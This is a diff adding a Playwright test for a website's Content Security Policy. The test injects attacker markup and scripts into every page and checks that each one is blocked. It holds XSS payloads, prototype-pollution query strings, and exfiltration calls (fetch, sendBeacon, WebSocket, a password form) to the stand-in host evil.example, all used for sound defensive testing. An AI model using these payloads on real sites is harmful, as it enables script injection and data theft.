@@ -1,0 +1,172 @@
+import type { Page } from "@playwright/test";
+import { alive, everyPage, expect, paths, test } from "./fixtures";
+
+/** Another origin, which would answer everything it is asked, and with code that does harm. */
+const evil = "https://evil.example";
+
+/** What Chromium says of everything that the policy stops. */
+const stopped =
+	/Content Security Policy|violates the following|Failed to (execute|construct|load resource)|Framing '|ERR_BLOCKED_BY_(CSP|RESPONSE)/;
+
+/** Markup that an attacker has got into the page, and the directive that stops each piece. */
+const markup: Record<string, string> = {
+	"<script>hacked('inline script')</script>": "script-src-elem inline",
+	[`<script src="${evil}/a.js"></script>`]: `script-src-elem ${evil}/a.js`,
+	[`<script type="module" src="${evil}/module.js"></script>`]: `script-src-elem ${evil}/module.js`,
+	"<script src=\"data:text/javascript,hacked('data script')\"></script>": "script-src-elem data",
+	"<img src='/favicon.svg' onload=hacked('handler')>": "script-src-attr inline",
+	"<p style='position:fixed;inset:0'>style attribute</p>": "style-src-attr inline",
+	"<style>body{display:none}</style>": "style-src-elem inline",
+	[`<link rel="stylesheet" href="${evil}/a.css">`]: `style-src-elem ${evil}/a.css`,
+	[`<base href="${evil}/">`]: `base-uri ${evil}/`,
+	[`<img src="${evil}/pixel.png">`]: `img-src ${evil}/pixel.png`,
+	[`<iframe src="${evil}/frame"></iframe>`]: `frame-src ${evil}`,
+	"<iframe src='data:text/html,<script>parent.hacked()</script>'></iframe>": "frame-src ",
+	[`<object data="${evil}/object"></object>`]: `object-src ${evil}`,
+	"<embed src='https://embed.evil.example/embed'>": "object-src https://embed.evil.example",
+	[`<video src="${evil}/video.mp4"></video>`]: `media-src ${evil}/video.mp4`,
+	// Acted on by the script below.
+	"<a id='attack-link' href=\"javascript:hacked('link')\">link</a>": "script-src-elem inline",
+	[`<form id='attack-form' method="post" action="${evil}/form"><input name="password"></form>`]: `form-action ${evil}/form`,
+	// It takes the page's policy over: what it holds is stopped inside it.
+	"<iframe srcdoc='<script>parent.hacked(\"srcdoc\")</script>'></iframe>": "script-src-elem inline",
+};
+
+/** Harm tried by a script of the site's own origin, and the directive that stops each. */
+const doings: Record<string, string> = {
+	"eval(\"hacked('eval')\")": "script-src eval",
+	"new Function(\"hacked('Function')\")()": "script-src eval",
+	"setTimeout(\"hacked('setTimeout')\")": "script-src eval",
+	"setInterval(\"hacked('setInterval')\")": "script-src eval",
+	[`import("${evil}/import.js")`]: `script-src-elem ${evil}/import.js`,
+	"import(\"data:text/javascript,hacked('data import')\")": "script-src-elem data",
+	"document.body.append(Object.assign(document.createElement('script'), { text: \"hacked('text')\" }))":
+		"script-src-elem inline",
+	"document.createElement('p').setAttribute('style', 'color: red')": "style-src-attr inline",
+	"document.createElement('img').setAttribute('onerror', \"hacked('attribute')\")":
+		"script-src-attr inline",
+	"document.createElement('p').innerHTML = \"<img src=x onerror=hacked('innerHTML')>\"":
+		"script-src-attr inline",
+	"new Worker(URL.createObjectURL(new Blob([\"postMessage('alive')\"])))": "worker-src blob",
+	"new SharedWorker('data:text/javascript,1')": "worker-src data",
+	[`fetch("${evil}/fetch", { method: "POST", mode: "no-cors", body: "secret" })`]: `connect-src ${evil}/fetch`,
+	[`{ const request = new XMLHttpRequest(); request.open("GET", "${evil}/xhr"); request.send(); }`]: `connect-src ${evil}/xhr`,
+	[`navigator.sendBeacon("${evil}/beacon", "secret")`]: `connect-src ${evil}/beacon`,
+	[`new EventSource("${evil}/events")`]: `connect-src ${evil}/events`,
+	"new WebSocket('wss://evil.example/socket')": "connect-src wss://evil.example/socket",
+	[`new Image().src = "${evil}/image.png"`]: `img-src ${evil}/image.png`,
+	[`new FontFace("Evil", "url(${evil}/font.woff2)").load()`]: `font-src ${evil}/font.woff2`,
+	[`new Audio("${evil}/audio.mp3").load()`]: `media-src ${evil}/audio.mp3`,
+	"document.getElementById('attack-link').click()": "script-src-elem inline",
+	"document.getElementById('attack-form').submit()": `form-action ${evil}/form`,
+};
+
+/** Values in an address that pollute every object where they are read carelessly. */
+const pollution =
+	"__proto__[polluted]=1&__proto__.polluted=1&constructor[prototype][polluted]=1&constructor.prototype.polluted=1";
+
+/** Puts markup into each document of a path, where the site has none of its own. */
+async function inject(page: Page, path: string, where: "<head>" | "<body>", html: string) {
+	await page.route(
+		(url) => url.pathname === path,
+		async (route) => {
+			const response = await route.fetch({ maxRetries: 3 });
+			const body = (await response.text()).replace(where, () => where + html);
+			await route.fulfill({ response, body });
+		},
+	);
+}
+
+interface Watched {
+	hacks: string[];
+	violations: string[];
+}
+
+/** Notices every piece of the attacker's code that runs, and everything that the policy stops. */
+async function watch(page: Page) {
+	const reached: string[] = [];
+	await page.context().route(
+		(url) => url.hostname.endsWith("evil.example"),
+		(route) => {
+			reached.push(route.request().url());
+			return route.fulfill({
+				contentType: "text/javascript",
+				headers: { "access-control-allow-origin": "*" },
+				body: "hacked('another origin')",
+			});
+		},
+	);
+	await page.addInitScript(() => {
+		const watched: Watched = { hacks: [], violations: [] };
+		Object.assign(window, {
+			watched,
+			hacked: (how: string) => watched.hacks.push(how),
+		});
+		addEventListener("securitypolicyviolation", (event) => {
+			watched.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
+		});
+	});
+	return {
+		reached,
+		watched: () => page.evaluate(() => (window as unknown as { watched: Watched }).watched),
+	};
+}
+
+for (const path of everyPage) {
+	test(`${path}: injected markup and script run nothing, change nothing and reach nobody`, async ({
+		page,
+		problems,
+		baseURL,
+	}) => {
+		problems.allow(stopped);
+		if (!paths.includes(path)) problems.allow(/404 \(Not Found\)/);
+		const { reached, watched } = await watch(page);
+		await page.route("**/attack.js", (route) =>
+			route.fulfill({
+				contentType: "text/javascript",
+				body: Object.keys(doings)
+					// As a worker does, one that could start would tell the page.
+					.map((doing) => `try { Promise.resolve(${doing}).catch(() => {}); } catch {}`)
+					.join("\n")
+					.replace(/Promise\.resolve\((\{.*\})\)\.catch\(\(\) => \{\}\);/g, "$1"),
+			}),
+		);
+		await inject(page, path, "<body>", Object.keys(markup).join(""));
+		await page.goto(`${path}?${pollution}#${pollution}`, { waitUntil: "domcontentloaded" });
+		await alive(page);
+		await page.evaluate(() =>
+			document.head.append(Object.assign(document.createElement("script"), { src: "/attack.js" })),
+		);
+
+		const expected = [...Object.values(markup), ...Object.values(doings)];
+		await expect
+			.poll(async () => {
+				const { violations } = await watched();
+				return [...new Set(expected)].filter((violation) => !violations.includes(violation));
+			})
+			.toEqual([]);
+		expect((await watched()).hacks).toEqual([]);
+
+		expect(reached).toEqual([]);
+		// In one go, and not by locators: Playwright takes the stopped form for a navigation under way.
+		expect(
+			await page.evaluate(() => ({
+				address: location.href,
+				polluted: "polluted" in {} || "polluted" in [] || "polluted" in (() => {}),
+				own: Object.keys(Object.prototype),
+				link: document.querySelector<HTMLAnchorElement>("a[href='/']")?.href,
+				shown: getComputedStyle(document.body).display,
+				theme:
+					document.querySelector<HTMLElement>(".theme-toggle")?.click() ??
+					document.documentElement.className,
+			})),
+		).toEqual({
+			address: `${baseURL}${path}?${pollution}#${pollution}`,
+			polluted: false,
+			own: [],
+			link: `${baseURL}/`,
+			shown: "block",
+			theme: "dark",
+		});
+	});
+}
